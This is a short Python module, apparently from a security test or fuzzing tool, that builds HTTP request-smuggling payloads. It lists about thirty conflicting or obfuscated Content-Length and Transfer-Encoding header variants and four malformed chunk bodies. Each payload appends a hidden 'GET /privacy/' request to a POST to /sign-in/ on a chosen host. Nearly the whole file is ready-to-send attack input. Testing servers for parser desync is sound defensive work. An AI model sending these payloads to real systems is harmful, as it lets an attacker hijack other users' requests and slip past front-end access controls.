"""Requests that two servers could read in two ways, so that the second half of one becomes somebody else's."""

from __future__ import annotations

HIDDEN = "0\r\n\r\nGET /privacy/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
HEADERS: tuple[str, ...] = (
    "Content-Length: 4\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 4",
    "Content-Length: 4\r\nContent-Length: 5",
    "Content-Length: 4, 5",
    "Content-Length : 4",
    "Content-Length: +4",
    "Content-Length: -4",
    "Content-Length: 0x4",
    "Content-Length: 4 4",
    "Content-Length: 4;a",
    "Content-Length: 99999999999999999999999",
    "Content-Length: ",
    "Content-Length: 4\r\nContent-Length: 4\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: chunked\x00",
    "Transfer-Encoding:\r\n chunked",
    "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 4\r\nContent-Length: 5",
    "Transfer_Encoding: chunked\r\nContent-Length: 4\r\nContent-Length: 5",
    "Host: other.example\r\nContent-Length: 4",
    "Bad Name: x\r\nContent-Length: 4",
    "X\x00: y\r\nContent-Length: 4",
    ": y\r\nContent-Length: 4",
    "Content-Length: 4\x00",
    "Content-Length: 4\r\nTransfer-Encoding: CHUNKED, x",
)
BODIES: tuple[str, ...] = (
    "zz\r\nabcd\r\n0\r\n\r\n",
    "-1\r\na\r\n0\r\n\r\n",
    "0x4\r\nabcd\r\n0\r\n\r\n",
    "FFFFFFFFFFFFFFFFF\r\nabcd\r\n0\r\n\r\n",
)
"""Chunks whose size cannot be read in one way."""


def requests(host: str) -> list[bytes]:
    """Every one of them, as it goes over the wire."""
    start = f"POST /sign-in/ HTTP/1.1\r\nHost: {host}\r\n"
    whole = [f"{start}{lines}\r\n\r\n{HIDDEN.format(host=host)}" for lines in HEADERS]
    chunked = [f"{start}Transfer-Encoding: chunked\r\n\r\n{body}GET /privacy/ HTTP/1.1\r\n\r\n" for body in BODIES]
    return [each.encode("latin-1") for each in (*whole, *chunked)]
